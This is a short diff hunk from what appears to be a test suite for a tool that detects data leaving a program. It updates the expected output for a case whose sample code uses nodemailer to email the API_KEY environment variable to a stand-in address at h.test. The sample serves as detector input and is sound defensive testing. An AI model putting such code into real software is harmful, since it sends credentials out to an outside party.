@@ -186,7 +186,7 @@ describe('what leaves', () => {
     [
       'mail',
       "const n = require('nodemailer'); const t = n.createTransport({}); t.sendMail({ to: 'a@h.test', text: process.env.API_KEY })",
-      `${KEY} -> mail:body`,
+      `${KEY} -> mail:body h.test`,
     ],
     [
       'loop over the environment',
